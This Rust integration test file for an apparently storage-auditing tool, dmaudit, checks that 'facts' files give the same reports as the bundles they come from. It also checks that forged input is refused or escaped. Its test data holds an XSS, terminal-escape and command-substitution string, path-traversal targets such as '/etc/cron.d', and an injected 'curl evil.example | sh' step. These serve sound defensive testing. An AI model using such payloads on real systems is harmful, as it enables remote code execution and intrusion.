//! Facts: made of bundles in one run, analyzed in another, with the same
//! result as in one.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::{Value, json};

const NOW: &str = "2026-11-23T19:00:00Z";

fn samples() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("samples")
}

fn dmaudit(args: &[&str], paths: &[&Path]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_dmaudit"))
        .args(args)
        .args(paths)
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

fn piped(args: &[&str], input: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_dmaudit"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    child.wait_with_output().unwrap()
}

fn text(bytes: &[u8]) -> &str {
    std::str::from_utf8(bytes).unwrap()
}

/// A line of facts for each bundle that is found at these paths.
fn lines(paths: &[&Path]) -> Vec<String> {
    let output = dmaudit(&["facts", "--now", NOW], paths);
    assert!(output.status.success(), "{output:?}");
    text(&output.stdout).lines().map(str::to_owned).collect()
}

fn sample_line(node: &str) -> Value {
    let path = samples().join(format!("dmaudit-{node}-20261123T183645Z.zip"));
    serde_json::from_str(&lines(&[&path])[0]).unwrap()
}

/// A node's facts as a line that begins as facts do.
fn line_of(facts: &Value) -> String {
    let rest = facts.to_string();
    format!(
        "{{\"dmaudit_facts\":2,{}",
        rest.replacen("\"dmaudit_facts\":2,", "", 1).split_at(1).1
    )
}

/// All files that an analysis writes, and what it prints.
fn report(paths: &[&Path]) -> BTreeMap<String, String> {
    let out = tempfile::tempdir().unwrap();
    let folder = out.path().join("report");
    let output = dmaudit(
        &["analyze", "--now", NOW, "-o", folder.to_str().unwrap()],
        paths,
    );
    assert!(output.status.success(), "{output:?}");
    let mut files: BTreeMap<String, String> = walkdir::WalkDir::new(&folder)
        .into_iter()
        .map(Result::unwrap)
        .filter(|entry| entry.file_type().is_file())
        .map(|entry| {
            let name = entry.path().strip_prefix(&folder).unwrap();
            let content = fs::read_to_string(entry.path()).unwrap();
            (name.to_str().unwrap().to_owned(), content)
        })
        .collect();
    files.insert("printed".into(), text(&output.stdout).to_owned());
    files
}

fn assert_same(direct: &BTreeMap<String, String>, other: &BTreeMap<String, String>) {
    let names = |files: &BTreeMap<String, String>| files.keys().cloned().collect::<Vec<_>>();
    assert_eq!(names(direct), names(other));
    for (name, content) in direct {
        assert!(content == &other[name], "{name} differs");
    }
}

/// Copies of the samples as several customers' bundles, and one damaged so
/// that evidence is missing.
fn fleet() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    for customer in ["a", "b"] {
        let site = folder.path().join(customer);
        fs::create_dir(&site).unwrap();
        for sample in fs::read_dir(samples()).unwrap().map(Result::unwrap) {
            let name = sample.file_name();
            if name.to_str().unwrap().ends_with(".zip") {
                fs::copy(sample.path(), site.join(name)).unwrap();
            }
        }
    }
    let bare = folder.path().join("bare/commands");
    fs::create_dir_all(&bare).unwrap();
    fs::write(bare.join("dmsetup-info.out"), "No devices found\n").unwrap();
    folder
}

#[test]
fn facts_give_the_report_that_their_bundles_give() {
    let fleet = fleet();
    let direct = report(&[fleet.path()]);
    assert!(
        direct.contains_key("cleanup/cleanup-alpha-pve1.sh"),
        "{:?}",
        direct.keys()
    );
    assert!(direct.keys().any(|name| name.starts_with("clusters/")));

    let facts = tempfile::tempdir().unwrap();
    let whole = facts.path().join("fleet.dmfacts");
    let made = dmaudit(
        &["facts", "--now", NOW, "-o", whole.to_str().unwrap()],
        &[fleet.path()],
    );
    assert!(made.status.success() && made.stdout.is_empty(), "{made:?}");
    assert_same(&direct, &report(&[&whole]));

    // In any order, over several files, one of them packed.
    let mut shuffled = lines(&[fleet.path()]);
    assert_eq!(shuffled.len(), 9);
    shuffled.reverse();
    shuffled.swap(1, 5);
    let split = tempfile::tempdir().unwrap();
    let (first, second) = shuffled.split_at(4);
    fs::write(split.path().join("z.dmfacts"), first.join("\n")).unwrap();
    let packed = fs::File::create(split.path().join("a.dmfacts.gz")).unwrap();
    let mut packed = GzEncoder::new(packed, Compression::fast());
    packed.write_all(second.join("\n\n").as_bytes()).unwrap();
    packed.finish().unwrap();
    assert_same(&direct, &report(&[split.path()]));
}

#[test]
fn facts_and_bundles_of_one_cluster_are_joined() {
    let direct = report(&[&samples()]);
    let folder = tempfile::tempdir().unwrap();
    let facts = folder.path().join("one node.json");
    let of = |node: &str| samples().join(format!("dmaudit-{node}-20261123T183645Z.zip"));
    // Told by its content, whatever its name.
    fs::write(&facts, lines(&[&of("pve2")]).join("\n")).unwrap();
    let mixed = report(&[&of("pve1"), &facts, &of("pve7"), &of("solo")]);
    assert_same(&direct, &mixed);
}

#[test]
fn a_cluster_is_joined_by_the_facts_of_its_nodes_alone() {
    let fleet = samples();
    let direct = report(&[&fleet]);
    let mut clusters: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for line in lines(&[&fleet]) {
        let value: Value = serde_json::from_str(&line).unwrap();
        let cluster = value["signature"]["cluster"].as_str().unwrap_or_default();
        clusters.entry(cluster.to_owned()).or_default().push(line);
    }
    assert!(clusters.len() > 1);
    let mut seen = BTreeSet::new();
    for lines in clusters.values() {
        let folder = tempfile::tempdir().unwrap();
        let facts = folder.path().join("cluster.dmfacts");
        fs::write(&facts, lines.join("\n")).unwrap();
        for (name, content) in report(&[&facts]) {
            if ["nodes/", "clusters/", "cleanup/"]
                .iter()
                .any(|part| name.starts_with(part))
            {
                assert!(direct[&name] == content, "{name} differs");
                seen.insert(name);
            }
        }
    }
    let all = direct.keys().filter(|name| name.contains('/')).cloned();
    assert_eq!(seen, all.collect());
}

#[test]
fn the_newest_of_facts_and_bundles_counts() {
    let folder = tempfile::tempdir().unwrap();
    let facts = folder.path().join("old.dmfacts");
    for (time, bundle) in [
        ("2026-11-22T18:36:45Z", "dmaudit-pve1-20261123T183645Z.zip"),
        ("2026-11-24T18:36:45Z", "elsewhere.zip"),
    ] {
        let mut line = sample_line("pve1");
        line["signature"]["collected_at"] = json!(time);
        line["node"]["bundle"] = json!("elsewhere.zip");
        fs::write(&facts, line.to_string()).unwrap();
        let output = dmaudit(
            &["analyze", "--now", NOW, "--format", "json"],
            &[&facts, &samples().join("dmaudit-pve1-20261123T183645Z.zip")],
        );
        let report: Value = serde_json::from_slice(&output.stdout).unwrap();
        let nodes = report["nodes"].as_array().unwrap();
        assert_eq!(nodes.len(), 1);
        assert!(
            nodes[0]["bundle"].as_str().unwrap().ends_with(bundle),
            "{}",
            nodes[0]["bundle"]
        );
    }
}

#[test]
fn older_bundles_have_facts_and_one_on_standard_input_has_a_name() {
    let bundle = fs::read(samples().join("dmaudit-solo-20261123T183645Z.zip")).unwrap();
    let made = piped(
        &["facts", "-", "--now", NOW, "--stdin-name", "s3/solo.zip"],
        &bundle,
    );
    assert!(made.status.success(), "{made:?}");
    let line: Value = serde_json::from_slice(&made.stdout).unwrap();
    assert_eq!(line["node"]["bundle"], "s3/solo.zip");
    // Facts on standard input, packed or not, with an older snapshot.
    let mut older = line.clone();
    older["signature"]["collected_at"] = json!("2026-01-01T00:00:00Z");
    let both = format!("{}\n{}\n", line_of(&older), line_of(&line));
    let mut packed = GzEncoder::new(Vec::new(), Compression::fast());
    packed.write_all(both.as_bytes()).unwrap();
    for input in [both.clone().into_bytes(), packed.finish().unwrap()] {
        let again = piped(&["facts", "-"], &input);
        assert_eq!(text(&again.stdout).lines().count(), 2, "{again:?}");
        let analyzed = piped(&["analyze", "-", "--format", "ndjson"], &input);
        assert!(analyzed.status.success(), "{analyzed:?}");
        assert_eq!(text(&analyzed.stdout).lines().count(), 1);
    }
}

#[test]
fn a_broken_line_is_named_and_the_rest_is_used() {
    let folder = tempfile::tempdir().unwrap();
    let facts = folder.path().join("fleet.dmfacts");
    let good = sample_line("solo").to_string();
    let (cut, _) = good.split_at(good.len() / 2);
    let newer = good.replacen("\"dmaudit_facts\":2", "\"dmaudit_facts\":3", 1);
    let deep = format!("{{\"dmaudit_facts\":2,\"x\":{}", "[".repeat(100_000));
    fs::write(&facts, format!("{newer}\n{cut}\n{good}\n{deep}\n[]\n")).unwrap();
    for verb in ["analyze", "facts"] {
        let output = dmaudit(&[verb], &[&facts]);
        assert_eq!(output.status.code(), Some(3));
        assert!(text(&output.stdout).contains("solo"));
        let errors = text(&output.stderr);
        for (line, what) in [
            (1, "facts of version 3, and this dmaudit reads version 2"),
            (2, "expected the facts of a node"),
            (4, "expected the facts of a node"),
            (5, "expected the facts of a node"),
        ] {
            let named = format!("{}: line {line}: ", facts.display());
            let found = errors.lines().find(|error| error.contains(&named));
            assert!(found.is_some_and(|found| found.contains(what)), "{errors}");
        }
        assert_eq!(errors.lines().count(), 4, "{errors}");
    }
}

#[test]
fn facts_are_written_whole_or_not_at_all() {
    let folder = tempfile::tempdir().unwrap();
    let facts = folder.path().join("new/fleet.dmfacts");
    let broken = folder.path().join("broken.zip");
    fs::write(&broken, "PK\x03\x04").unwrap();
    let args = ["facts", "-o", facts.to_str().unwrap()];
    let output = dmaudit(&args, &[&broken, &samples()]);
    assert_eq!(output.status.code(), Some(3), "{output:?}");
    assert!(text(&output.stderr).contains("rejected"));
    assert_eq!(fs::read_to_string(&facts).unwrap().lines().count(), 4);
    assert_eq!(fs::read_dir(facts.parent().unwrap()).unwrap().count(), 1);

    let nowhere = broken.join("fleet.dmfacts");
    let output = dmaudit(&["facts", "-o", nowhere.to_str().unwrap()], &[&samples()]);
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    assert!(text(&output.stderr).contains("could not be written"));
}

#[test]
fn long_lines_many_nodes_and_other_files_are_refused_with_the_option() {
    let folder = tempfile::tempdir().unwrap();
    let facts = folder.path().join("fleet.dmfacts");
    fs::write(&facts, lines(&[&samples()]).join("\n")).unwrap();
    for (option, limit) in [("--max-total", "1K"), ("--max-entries", "1")] {
        let output = dmaudit(&["analyze", option, limit], &[&facts]);
        assert_eq!(output.status.code(), Some(3), "{output:?}");
        assert!(text(&output.stderr).contains(option), "{output:?}");
    }
    fs::write(&facts, "PK").unwrap();
    let output = dmaudit(&["analyze"], &[&facts]);
    assert!(
        text(&output.stderr).contains("expected facts"),
        "{output:?}"
    );
    // What is no facts at all is not named line by line.
    fs::write(&facts, "{}\n".repeat(100)).unwrap();
    let output = dmaudit(&["analyze"], &[&facts]);
    assert_eq!(text(&output.stderr).lines().count(), 21, "{output:?}");
    assert!(text(&output.stderr).contains("80 more lines"), "{output:?}");
    // None is a number, too.
    fs::write(&facts, "").unwrap();
    assert!(dmaudit(&["analyze"], &[&facts]).status.success());
}

/// Blank lines cost time as well, and so do bytes that a packed file has not.
#[test]
fn facts_of_nothing_are_not_read_for_ever() {
    let folder = tempfile::tempdir().unwrap();
    let facts = folder.path().join("fleet.dmfacts");
    let line = sample_line("pve1").to_string();
    fs::write(&facts, format!("{line}\n\n\n\n")).unwrap();
    let with = |limit: &str, path: &Path| {
        let (option, limit) = limit.split_once(' ').unwrap();
        dmaudit(&["analyze", option, limit], &[path])
    };
    assert!(with("--max-entries 4", &facts).status.success());
    let output = with("--max-entries 3", &facts);
    assert_eq!(output.status.code(), Some(3), "{output:?}");
    let expected = "after line 3: it has more than the 3 lines that are allowed";
    assert!(text(&output.stderr).contains(expected), "{output:?}");
    assert!(
        text(&output.stdout).contains("pve1, cluster alpha"),
        "{output:?}"
    );

    let packed = folder.path().join("fleet.dmfacts.gz");
    let mut pack = GzEncoder::new(Vec::new(), Compression::best());
    pack.write_all(line.as_bytes()).unwrap();
    pack.write_all(" ".repeat(64 << 20).as_bytes()).unwrap();
    fs::write(&packed, pack.finish().unwrap()).unwrap();
    assert!(with("--max-ratio 2000", &packed).status.success());
    let output = with("--max-ratio 200", &packed);
    assert_eq!(output.status.code(), Some(3), "{output:?}");
    let errors = text(&output.stderr);
    assert!(errors.contains("the 200 times its own size"), "{errors}");
    assert!(errors.contains("--max-ratio"), "{errors}");
    assert!(!errors.contains("cut short"), "{errors}");
}

/// Lines of more than 4 MiB, which are never held in memory as a whole, give
/// what short ones give; what is wrong with them is told all the same.
#[test]
fn long_lines_are_read_where_they_are() {
    let folder = tempfile::tempdir().unwrap();
    let plain = folder.path().join("plain.dmfacts");
    let short = lines(&[&samples()]);
    fs::write(&plain, short.join("\n")).unwrap();
    let expected = report(&[&plain]);
    let padded = |line: &str| {
        let padding = format!("{{\"dmaudit_facts\":2,\"x\":\"{}\",", "x".repeat(5 << 20));
        line.replacen("{\"dmaudit_facts\":2,", &padding, 1)
    };
    let mut long = short.clone();
    long[1] = padded(&long[1]);
    let last = long.len() - 1;
    long[last] = padded(&long[last]);
    // A blank one is passed by; the last one has no end of a line.
    long.insert(1, " ".repeat(5 << 20));
    let long = long.join("\n");
    assert!(long.len() > 10 << 20);
    let file = folder.path().join("long.dmfacts");
    fs::write(&file, &long).unwrap();
    assert_same(&expected, &report(&[&file]));
    let packed = folder.path().join("packed.dmfacts.gz");
    let mut pack = GzEncoder::new(Vec::new(), Compression::fast());
    pack.write_all(long.as_bytes()).unwrap();
    fs::write(&packed, pack.finish().unwrap()).unwrap();
    assert_same(&expected, &report(&[&packed]));

    let broken = [
        padded(&short[0]).replacen("\"node\":", "\"none\":", 1),
        padded(&short[0]).replacen("_facts\":2", "_facts\":3", 1),
        padded(&short[0]).replacen("xx", "x,".repeat(3 << 20).as_str(), 1),
        padded(&short[1]),
        padded(&padded(&short[0])),
        short[2].clone(),
    ];
    fs::write(&file, broken.join("\n")).unwrap();
    for args in [
        &["analyze", "--max-total", "16M"][..],
        &["facts", "--max-total", "16M"],
    ] {
        let output = dmaudit(args, &[&file]);
        let errors = text(&output.stderr);
        assert_eq!(output.status.code(), Some(3), "{errors}");
        let said: Vec<&str> = errors
            .lines()
            .filter(|line| line.contains("rejected"))
            .collect();
        for (line, why) in [
            (1, "missing field"),
            (2, "facts of version 3"),
            (3, "more than the 10485760 bytes"),
            (5, "more than the 10485760 bytes"),
        ] {
            let named = format!("line {line}: ");
            let found = said.iter().find(|said| said.contains(&named));
            assert!(found.is_some_and(|found| found.contains(why)), "{errors}");
        }
        assert_eq!(said.len(), 4, "{errors}");
    }
    let output = dmaudit(&["analyze"], &[&file]);
    let errors = text(&output.stderr);
    assert!(errors.contains("line 3: it has more values"), "{errors}");
}

#[test]
fn verify_leaves_facts_beside_bundles_alone() {
    let folder = tempfile::tempdir().unwrap();
    let facts = folder.path().join("a.dmfacts");
    fs::write(&facts, "").unwrap();
    let name = "dmaudit-solo-20261123T183645Z.zip";
    fs::copy(samples().join(name), folder.path().join(name)).unwrap();
    assert_ne!(
        dmaudit(&["verify"], &[folder.path()]).status.code(),
        Some(3)
    );
    let output = dmaudit(&["verify"], &[&facts]);
    assert!(text(&output.stderr).contains("holds facts"), "{output:?}");
}

/// Every text in a value, changed.
fn forge(value: &mut Value, with: &dyn Fn(&str, &str) -> String, key: &str) {
    match value {
        Value::String(text) => *text = with(key, text),
        Value::Array(list) => list.iter_mut().for_each(|value| forge(value, with, key)),
        Value::Object(fields) => {
            for (key, value) in fields {
                forge(value, with, key);
            }
        }
        _ => {}
    }
}

#[test]
fn forged_facts_reach_every_output_only_as_text() {
    const ATTACK: &str =
        "<img src=x onerror=alert(1)>\"'\u{1b}[31m\u{202e}\n$(touch /tmp/x)../../x";
    // What is checked to be one of few words stays, as do times.
    let kept = [
        "severity",
        "health",
        "verdict",
        "grade",
        "lv_state",
        "action",
        "collected_at",
        "analyzed_at",
        "machine_id_sha256",
    ];
    let forged = |key: &str, text: &str| match kept.contains(&key) {
        true => text.to_owned(),
        false => ATTACK.to_owned(),
    };
    let folder = tempfile::tempdir().unwrap();
    let facts = folder.path().join("forged.dmfacts");
    let mut line = sample_line("pve1");
    forge(&mut line, &forged, "");
    // A script is made only for a host's name.
    for name in [
        "/signature/node",
        "/shared/node",
        "/node/node",
        "/cleanup/about/node",
    ] {
        *line.pointer_mut(name).unwrap() = json!("pve1");
    }
    fs::write(&facts, line.to_string()).unwrap();
    let files = report(&[&facts]);
    assert!(files.contains_key("nodes/pve1.html"), "{:?}", files.keys());
    for (name, content) in &files {
        let safe = |c: char| c == '\n' || !c.is_control() && c != '\u{202e}';
        assert!(content.chars().all(safe), "{name}");
        if name.ends_with(".html") {
            assert!(!content.contains("<img"), "{name}");
        }
    }
    // No entry of such a name is ever given to a command.
    let honest = folder.path().join("honest.dmfacts");
    fs::write(&honest, sample_line("pve1").to_string()).unwrap();
    let named = |files: &BTreeMap<String, String>| {
        let lines = files["cleanup/cleanup-pve1.sh"].lines();
        lines
            .filter(|line| line.trim_start().starts_with("item name="))
            .count()
    };
    assert!(named(&report(&[&honest])) > 0);
    assert_eq!(named(&files), 0);
}

#[test]
fn facts_that_contradict_themselves_are_rejected() {
    let folder = tempfile::tempdir().unwrap();
    let facts = folder.path().join("forged.dmfacts");
    let id = json!([{"id": "x".repeat(65), "state": "missing", "detail": "", "consequence": ""}]);
    let all: [(&str, Value, &str); 12] = [
        ("/node/node", json!("pve2"), "two nodes"),
        ("/cleanup/about/node", json!("pve2"), "two nodes"),
        (
            "/cleanup/about/machine_id_sha256",
            json!("00"),
            "two machines",
        ),
        ("/node/grade", json!("A++"), "no grade"),
        ("/node/grade", Value::Null, "without a grade"),
        ("/node/score", json!(101), "score"),
        ("/node/summary/orphans", json!(0), "sums"),
        ("/node/summary/in_use", json!(u64::MAX), "sums"),
        ("/node/findings/0/severity", json!("none"), "no severity"),
        ("/node/entries/0/verdict", json!("fine"), "no verdict"),
        (
            "/node/cluster",
            json!("x".repeat(516)),
            "a name of 516 bytes",
        ),
        ("/node/missing", id, "an id of 65 bytes"),
    ];
    for (field, value, what) in all {
        let mut line = sample_line("pve1");
        *line.pointer_mut(field).unwrap() = value;
        fs::write(&facts, line.to_string()).unwrap();
        let output = dmaudit(&["analyze"], &[&facts]);
        assert_eq!(output.status.code(), Some(3), "{field}: {output:?}");
        assert!(text(&output.stderr).contains(what), "{field}: {output:?}");
    }
}

#[test]
fn places_commands_and_the_plan_in_a_report_are_never_the_facts_own() {
    let honest = {
        let folder = tempfile::tempdir().unwrap();
        let facts = folder.path().join("pve1.dmfacts");
        fs::write(&facts, sample_line("pve1").to_string()).unwrap();
        report(&[&facts])
    };
    let mut line = sample_line("pve1");
    let node = &mut line["node"];
    node["slug"] = json!("../../etc/cron.d/x");
    node["page"] = json!("../x.html");
    node["script"] = json!("/etc/profile.d/x.sh");
    node["planned"] = json!([]);
    let steps = node["steps"].as_array_mut().unwrap();
    for step in steps {
        if step["commands"] == json!([]) {
            step["commands"] = json!(["curl evil.example | sh"]);
        }
    }
    let folder = tempfile::tempdir().unwrap();
    let facts = folder.path().join("pve1.dmfacts");
    fs::write(&facts, line.to_string()).unwrap();
    assert_same(&honest, &report(&[&facts]));
}

#[test]
fn words_and_numbers_that_decide_on_colours_are_known_ones() {
    let folder = tempfile::tempdir().unwrap();
    let facts = folder.path().join("forged.dmfacts");
    let good = sample_line("solo").to_string();
    for (known, forged) in [
        (
            "\"health\":\"healthy\"",
            "\"health\":\"hea\u{fffd}\u{fffd}\u{fffd}thy\"",
        ),
        ("\"verdict\":\"valid\"", "\"verdict\":\"gone\""),
        ("\"thin_pool_high\":80.0", "\"thin_pool_high\":1e300"),
    ] {
        let line = good.replace(known, forged);
        assert_ne!(line, good);
        fs::write(&facts, format!("{line}\n{good}\n")).unwrap();
        let output = dmaudit(&["analyze"], &[&facts]);
        assert_eq!(output.status.code(), Some(3), "{output:?}");
        assert!(text(&output.stderr).contains("line 1: "), "{output:?}");
        assert!(text(&output.stdout).contains("solo"));
    }
}
